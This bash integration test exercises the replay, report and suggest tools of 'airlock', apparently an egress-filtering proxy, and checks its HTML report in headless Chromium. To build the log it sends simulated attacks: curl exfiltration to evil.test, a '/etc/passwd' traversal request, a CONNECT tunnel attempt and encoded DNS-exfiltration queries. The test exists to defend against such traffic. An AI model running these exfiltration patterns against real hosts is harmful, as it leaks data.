#!/bin/bash
# Issue 19: `airlock replay`, `airlock report`, `airlock suggest` end to end, on a network log a
# real airlock writes here (allowed, blocked by host/path/method/port, pre-check, host
# mismatch, CONNECT refusal, 400, upstream errors, DNS queries never used), and on the logs the
# other suites wrote (tests/audit/data). The report is loaded in headless Chromium: the
# rendered DOM's figures are checked against counts taken from the log with grep, and a
# screenshot is taken ($AUDIT_SCREENSHOT, default $T_DIR/report.png).
. "$(dirname "$0")/lib.sh"
t_enter_netns "$@"

DATA="$AIRLOCK_SRC/tests/audit/data"
CHROMIUM=$(command -v chromium || command -v chromium-browser || true)

# --- a real log ---
cat > "$T_DIR/allow.yaml" <<'YAML'
domains: ["nginx.test", "down.test"]
url_prefixes:
  - host: api.test
    path: /v1/*
    methods: [GET]
YAML
t_start_resolver --address=/down.test/
t_start_nginx
t_start_airlock "$T_DIR/allow.yaml"
CA="$T_DIR/confdir/mitmproxy-ca-cert.pem"
c() { curl -s -o /dev/null -m 5 --cacert "$CA" "$@"; }
for _ in 1 2 3; do c http://nginx.test/echo; done
c http://nginx.test/missing
c http://api.test/v1/users
c http://api.test/v1/users?page=2
c -X POST http://api.test/v1/users
c -X DELETE http://api.test/v1/users/17
c http://api.test/v2/other
c 'http://evil.test/exfil?d=c2VjcmV0'
c https://evil.test/collect
c https://evil.test/collect/2
c --path-as-is 'http://nginx.test/a/%2e%2e/etc/passwd'
c -H 'Host: nginx.test:8080' http://nginx.test/
c -H 'Host: nginx.test' https://evil.test/
c http://down.test/
raw() { # raw BYTES: one request on a fresh connection to :80
    exec 3<>/dev/tcp/127.0.0.1/80
    printf '%b' "$1" >&3
    timeout 3 cat <&3 >/dev/null
    exec 3<&-
}
raw 'GET / HTTP/1.1\r\n\r\n'
raw 'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n'
for n in a b c d e f g h i j k l; do dig +short @127.0.0.1 "$n$RANDOM.leak.test" A >/dev/null; done
dig +short @127.0.0.1 mzxw6ytboi2dkmjzgq3tqobyha4dqmzzgu2dkobxgezdgnbvgy3tqojq.exfil.test A >/dev/null
dig +short @127.0.0.1 quiet.example AAAA >/dev/null
t_stop_airlock
LOG="$T_DIR/net.log"
t_check "the log has every kind of line the tools read" \
    grep -q '^BLOCKED CONNECT evil.test:443 -> 403 (tunneling not allowed)' "$LOG"
t_check "the log has the pre-check request" grep -q '%2e%2e' "$LOG"
t_check "the log has an ERROR line" grep -q '^ERROR GET http://down.test/' "$LOG"

# --- --help, usage errors ---
for cmd in replay report suggest; do
    out=$("$AIRLOCK" $cmd --help); rc=$?
    t_eq "$cmd --help: exit 0" 0 "$rc"
    t_contains "$cmd --help: usage" "$out" "usage: airlock $cmd"
    t_contains "airlock --help lists $cmd" "$("$AIRLOCK" --help)" "airlock $cmd"
done
"$AIRLOCK" replay "$LOG" >/dev/null 2>&1; t_eq "replay without --allowlist: exit 2" 2 $?
"$AIRLOCK" replay --allowlist "$T_DIR/none.yaml" "$LOG" >/dev/null 2>&1
t_eq "replay: missing allowlist: exit 2" 2 $?
printf 'domains: [a\n' > "$T_DIR/bad.yaml"
err=$("$AIRLOCK" replay --allowlist "$T_DIR/bad.yaml" "$LOG" 2>&1); rc=$?
t_eq "replay: invalid allowlist: exit 2" 2 "$rc"
t_contains "replay: invalid allowlist: file:line:col" "$err" "bad.yaml:"
"$AIRLOCK" replay --allowlist "$T_DIR/allow.yaml" "$T_DIR/nope.log" >/dev/null 2>&1
t_eq "replay: missing log: exit 2" 2 $?
"$AIRLOCK" replay --allowlist "$T_DIR/allow.yaml" "$T_DIR/nginx.conf" >/dev/null 2>&1
t_eq "replay: a file that is not a network log: exit 2" 2 $?
"$AIRLOCK" report "$LOG" >/dev/null 2>&1; t_eq "report without -o: exit 2" 2 $?
"$AIRLOCK" suggest --frobnicate "$LOG" >/dev/null 2>&1; t_eq "suggest: unknown option: exit 2" 2 $?

# --- replay ---
out=$("$AIRLOCK" replay --allowlist "$T_DIR/allow.yaml" "$LOG"); rc=$?
t_eq "replay under the allowlist that wrote the log: exit 0" 0 "$rc"
t_contains "replay: nothing changes" "$out" "no request would change."
nreq=$(grep -cE '^(allowed|BLOCKED|ERROR) ' "$LOG")
t_contains "replay: every request counted" "$out" "requests:                 $nreq"
t_contains "replay: the 400 named" "$out" "airlock's own 400/431 answer"
t_contains "replay: the host mismatch named" "$out" "host mismatch (decided before the allowlist)"
t_contains "replay: the CONNECT refusal named" "$out" "CONNECT on port 80/443, refused before"
cat > "$T_DIR/new.yaml" <<'YAML'
domains: ["down.test", "evil.test"]
url_prefixes:
  - host: api.test
    path: /v1/*
YAML
out=$("$AIRLOCK" replay --allowlist "$T_DIR/new.yaml" "$LOG"); rc=$?
t_eq "replay under a new allowlist: exit 1" 1 "$rc"
t_contains "replay: nginx.test now blocked" "$out" "  nginx.test
         3  GET /echo
            now: blocked: no entry matches host nginx.test"
t_contains "replay: evil.test now allowed, with the entry" "$out" "now: allowed by domains[1] (evil.test)"
t_contains "replay: POST now allowed by the entry without methods" "$out" \
    "allowed by url_prefixes[0] (host api.test, path /v1/*, methods any)"
t_contains "replay: the pre-check still blocks (no change listed)" "$out" "requests:"
case "$out" in *"%2e%2e"*"now: allowed"*) t_fail "replay: pre-check request listed as allowed" ;;
    *) t_ok "replay: the pre-check request is not listed as allowed" ;; esac
"$AIRLOCK" replay --allowlist "$T_DIR/allow.yaml" - < "$LOG" >/dev/null; rc=$?
t_eq "replay reads standard input (-)" 0 "$rc"

# --- suggest, and the round trip through replay ---
sug=$("$AIRLOCK" suggest --allowlist "$T_DIR/allow.yaml" "$LOG"); rc=$?
t_eq "suggest: exit 0" 0 "$rc"
printf '%s\n' "$sug" > "$T_DIR/suggest.yaml"
t_contains "suggest: evil.test entry" "$sug" '- host: "evil.test"'
# api.test: POST /v1/users, DELETE /v1/users/17 and GET /v2/other share no path beyond "/"
t_contains "suggest: api.test, the methods it was blocked for, any path" "$sug" '- host: "api.test"
    methods: ["POST", "DELETE", "GET"]'
t_contains "suggest: a port entry" "$sug" "ports: [8080]"
t_contains "suggest: the pre-check is not suggested" "$sug" "path has a .. segment"
"$AIRLOCK" check --allowlist "$T_DIR/suggest.yaml" >/dev/null; rc=$?
t_eq "suggest: its output is a valid allowlist" 0 "$rc"
$PY - "$T_DIR/allow.yaml" "$T_DIR/suggest.yaml" "$T_DIR/merged.yaml" <<'PY'
import sys, yaml
cur = yaml.safe_load(open(sys.argv[1]))
sug = yaml.safe_load(open(sys.argv[2]))
cur.setdefault("url_prefixes", []).extend(sug.get("url_prefixes") or [])
open(sys.argv[3], "w").write(yaml.safe_dump(cur))
PY
want=$(printf '%s\n' "$sug" | head -1 | sed -n 's/.*entries for \([0-9]*\) of them.*/\1/p')
out=$("$AIRLOCK" replay --allowlist "$T_DIR/merged.yaml" "$LOG"); rc=$?
t_eq "round trip: replay of allowlist + suggestion: exit 1" 1 "$rc"
t_contains "round trip: exactly the suggested requests turn allowed" "$out" \
    "blocked before, ALLOWED now: $want"
t_contains "round trip: nothing turns blocked" "$out" "allowed before, BLOCKED now: 0"
t_check "round trip: some requests were suggested" test "${want:-0}" -ge 6

# --- the logs the other suites wrote ---
out=$("$AIRLOCK" replay --allowlist "$DATA/masking.allow.yaml" \
    --replacements "$DATA/masking.repl.json" "$DATA/masking.log"); rc=$?
t_eq "masking.log under its own files: exit 0" 0 "$rc"
t_contains "masking.log: STRIPPED and COLLAPSED read" "$out" "STRIPPED 1, COLLAPSED 1"
printf '{}\n' > "$T_DIR/empty.json"
out=$("$AIRLOCK" replay --allowlist "$DATA/masking.allow.yaml" --replacements "$T_DIR/empty.json" \
    "$DATA/masking.log"); rc=$?
t_eq "masking.log with no replacements: exit 1 (credentials no longer swapped)" 1 "$rc"
t_contains "masking.log: names the host" "$out" "echo.test: no entry covers this host now"
out=$("$AIRLOCK" replay --allowlist "$DATA/http_proxy.allow.yaml" "$DATA/http_proxy.log"); rc=$?
t_eq "http_proxy.log: exit 1 (requests after its SIGHUP reload)" 1 "$rc"
t_contains "http_proxy.log: exactly the reloaded host changes" "$out" "allowed before, BLOCKED now: 2
  blocked before, ALLOWED now: 0"
t_contains "http_proxy.log: the change is new.test" "$out" "  new.test"
for f in "$DATA"/*.log; do
    allow="${f%.log}.allow.yaml"
    [ -f "$allow" ] || continue
    case "$f" in *http_proxy.log|*masking.log) continue ;; esac
    "$AIRLOCK" replay --allowlist "$allow" "$f" > "$T_DIR/fixture.out"; rc=$?
    t_eq "$(basename "$f") under its own allowlist: exit 0" 0 "$rc"
done

# --- report: the page in a real browser ---
"$AIRLOCK" report "$LOG" "$DATA/masking.log" -o "$T_DIR/report.html" --title 'audit test'; rc=$?
t_eq "report: exit 0" 0 "$rc"
t_check "report: no script, nothing loaded from elsewhere" \
    bash -c "! grep -qiE '<script|src=|href=|@import|url\\(' '$T_DIR/report.html'"
if [ -z "$CHROMIUM" ]; then
    t_fail "chromium not installed (sh .ci/install-deps test installs it)"
else
    chrome() { # headless, a fresh profile each time, no network use of its own
        timeout 120 "$CHROMIUM" --headless --no-sandbox --disable-gpu --disable-quic \
            --no-first-run --disable-background-networking --disable-component-update \
            --disable-sync --user-data-dir="$(mktemp -d "$T_DIR/chrome.XXXXXX")" "$@" \
            2>>"$T_DIR/chromium.err"
    }
    chrome --dump-dom "file://$T_DIR/report.html" > "$T_DIR/dom.html"
    t_check "chromium rendered the page" grep -q 'id="total-requests"' "$T_DIR/dom.html"
    # the figures the DOM shows, read with Python's HTML parser
    $PY - "$T_DIR/dom.html" > "$T_DIR/dom.txt" <<'PY'
import sys
from html.parser import HTMLParser
class P(HTMLParser):
    def __init__(self):
        super().__init__(); self.id = None; self.vals = {}; self.bars = [0, 0, 0, 0]
        self.hosts = {}; self.yaml = 0; self.script = 0
    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "script": self.script += 1
        if "id" in a: self.id = a["id"]
        if tag == "g" and a.get("class") == "bar":
            self.bars[0] += 1
            for k, key in ((1, "data-allowed"), (2, "data-blocked"), (3, "data-errors")):
                self.bars[k] += int(a[key])
        if tag == "tr" and a.get("class") == "host": self.hosts[a["data-host"]] = True
        if tag == "pre" and "yaml" in (a.get("class") or ""): self.yaml += 1
    def handle_data(self, d):
        if self.id and d.strip():
            self.vals.setdefault(self.id, d.strip()); self.id = None
    def handle_endtag(self, tag): self.id = None
p = P(); p.feed(open(sys.argv[1]).read())
for k in sorted(p.vals): print(k, p.vals[k])
print("bars", *p.bars); print("hosts", " ".join(sorted(p.hosts)))
print("yaml", p.yaml); print("script", p.script)
PY
    dom() { sed -n "s/^$1 //p" "$T_DIR/dom.txt"; }
    cat "$LOG" "$DATA/masking.log" > "$T_DIR/both.log"
    B="$T_DIR/both.log"
    t_eq "DOM: lines" "$(wc -l < "$B")" "$(dom total-lines)"
    t_eq "DOM: requests" "$(grep -cE '^(allowed|BLOCKED|ERROR) ' "$B")" "$(dom total-requests)"
    t_eq "DOM: allowed" "$(grep -c '^allowed ' "$B")" "$(dom total-allowed)"
    t_eq "DOM: blocked" "$(grep -c '^BLOCKED ' "$B")" "$(dom total-blocked)"
    t_eq "DOM: errors" "$(grep -c '^ERROR ' "$B")" "$(dom total-errors)"
    t_eq "DOM: DNS queries" "$(grep -c '^DNS ' "$B")" "$(dom total-dns)"
    t_eq "DOM: TASK START" "$(grep -c '^=== TASK START ' "$B")" "$(dom total-tasks)"
    t_eq "DOM: STRIPPED" "$(grep -c '^STRIPPED ' "$B")" "$(dom total-stripped)"
    t_eq "DOM: COLLAPSED" "$(grep -c '^COLLAPSED ' "$B")" "$(dom total-collapsed)"
    t_eq "DOM: credential swapped" "$(grep -c '\[masked: ' "$B")" "$(dom total-masked)"
    t_eq "DOM: every line read" "0" "$(dom total-unread)"
    t_eq "DOM: timeline bars sum to the verdicts" \
        "$(grep -c '^allowed ' "$B") $(grep -c '^BLOCKED ' "$B") $(grep -c '^ERROR ' "$B")" \
        "$(dom bars | cut -d' ' -f2-)"
    # DNS names queried and never requested over HTTP(S), counted with awk
    unreq=$(awk '$1 == "DNS" { n[tolower($3)] = 1 }
        $1 ~ /^(allowed|BLOCKED|ERROR)$/ { u = $3; sub(/^https?:\/\//, "", u); sub(/[:\/?*].*/, "", u); h[tolower(u)] = 1 }
        END { c = 0; for (k in n) if (!(k in h)) c++; print c }' "$B")
    t_eq "DOM: DNS names never requested" "$unreq" "$(dom dns-unrequested)"
    t_check "DOM: the leak.test names and the long name are flagged" test "$(dom dns-flagged)" -ge 13
    t_contains "DOM: hosts listed" "$(dom hosts)" "api.test down.test echo.test evil.test nginx.test"
    t_check "DOM: suggested entries shown as YAML" test "$(dom yaml)" -ge 3
    t_eq "DOM: no script element" "0" "$(dom script)"
    shot=${AUDIT_SCREENSHOT:-$T_DIR/report.png}
    rm -f "$shot"
    chrome --window-size=1280,3000 --screenshot="$shot" "file://$T_DIR/report.html" >/dev/null
    t_check "chromium took a screenshot ($shot)" test -s "$shot"
    t_eq "the screenshot is a PNG" "89504e47" "$(head -c 4 "$shot" | od -An -tx1 | tr -d ' \n')"
fi

t_done
